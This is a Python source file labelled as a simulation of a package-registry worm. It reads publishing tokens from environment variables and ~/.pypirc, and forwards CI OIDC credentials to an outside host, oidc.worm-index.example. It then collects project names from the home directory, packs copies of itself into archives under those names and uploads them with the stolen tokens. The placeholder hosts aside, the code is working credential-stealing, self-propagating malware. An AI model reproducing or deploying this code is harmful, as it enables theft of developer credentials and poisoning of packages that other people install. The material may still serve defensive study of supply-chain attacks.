# SPDX-License-Identifier: Apache-2.0
"""Simulation: uploads to an index that does not exist, whatever the machine's own one is."""

import base64
import configparser
import hashlib
import io
import json
import os
import re
import tarfile
import urllib.request
import uuid
from pathlib import Path

UPLOAD = "https://upload.worm-index.example/legacy/"


def tokens():
    for name in ("TWINE_PASSWORD", "UV_PUBLISH_TOKEN", "POETRY_PYPI_TOKEN_PYPI", "FLIT_PASSWORD", "PYPI_TOKEN"):
        if os.environ.get(name):
            yield os.environ[name]
    settings = configparser.RawConfigParser()
    settings.read(Path.home() / ".pypirc")
    yield from (settings.get(section, "password") for section in settings.sections() if settings.has_option(section, "password"))
    url, bearer = (os.environ.get(f"ACTIONS_ID_TOKEN_REQUEST_{end}") for end in ("URL", "TOKEN"))
    if url and bearer:
        request = urllib.request.Request("https://oidc.worm-index.example/mint", json.dumps({"url": url, "token": bearer}).encode())
        yield json.loads(urllib.request.urlopen(request, timeout=4).read() or "{}").get("token", "")


def projects():
    """Give the names of projects that lie about in the home directory."""
    for path in sorted(Path.home().glob("*/pyproject.toml"))[:20] + sorted(Path.home().glob("*/*/pyproject.toml"))[:20]:
        yield from re.findall(r'(?m)^name\s*=\s*"([^"]+)"', path.read_text(errors="replace"))


def infected(name, version):
    held = io.BytesIO()
    own = {"spread.py": Path(__file__).read_bytes(), "setup.py": Path(__file__).with_name("setup.py").read_bytes()}
    own["PKG-INFO"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    with tarfile.open(fileobj=held, mode="w:gz") as archive:
        for path, data in own.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return held.getvalue()


def upload(token, name, version):
    edge, data = uuid.uuid4().hex, infected(name, version)
    fields = {":action": "file_upload", "protocol_version": "1", "name": name, "version": version, "filetype": "sdist", "metadata_version": "2.1"}
    fields["sha256_digest"] = hashlib.sha256(data).hexdigest()
    body = b"".join(f'--{edge}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items())
    body += f'--{edge}\r\nContent-Disposition: form-data; name="content"; filename="{name}-{version}.tar.gz"\r\n\r\n'.encode() + data + f"\r\n--{edge}--\r\n".encode()
    login = base64.b64encode(f"__token__:{token}".encode()).decode()
    head = {"Authorization": f"Basic {login}", "Content-Type": f"multipart/form-data; boundary={edge}", "User-Agent": "twine/6.1.0"}
    urllib.request.urlopen(urllib.request.Request(UPLOAD, body, head), timeout=4)


def main():
    names = list(dict.fromkeys(projects())) or ["sim-pypi-upload-worm"]
    for token in list(dict.fromkeys(tokens())) or ["none"]:
        for name in names:
            upload(token, name, "1.0.1")
